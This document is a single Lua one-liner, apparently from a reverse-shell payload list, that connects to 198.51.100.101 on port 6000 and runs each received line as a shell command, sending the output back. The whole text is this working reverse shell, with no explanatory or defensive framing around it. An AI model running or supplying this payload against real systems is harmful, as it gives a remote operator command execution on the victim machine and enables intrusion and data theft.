lua -e 'local s=require("socket").tcp() s:connect("198.51.100.101","6000") while true do local l=s:receive("*l") if not l then break end local f=io.popen(l,"r") s:send(f:read("*a")) f:close() end'
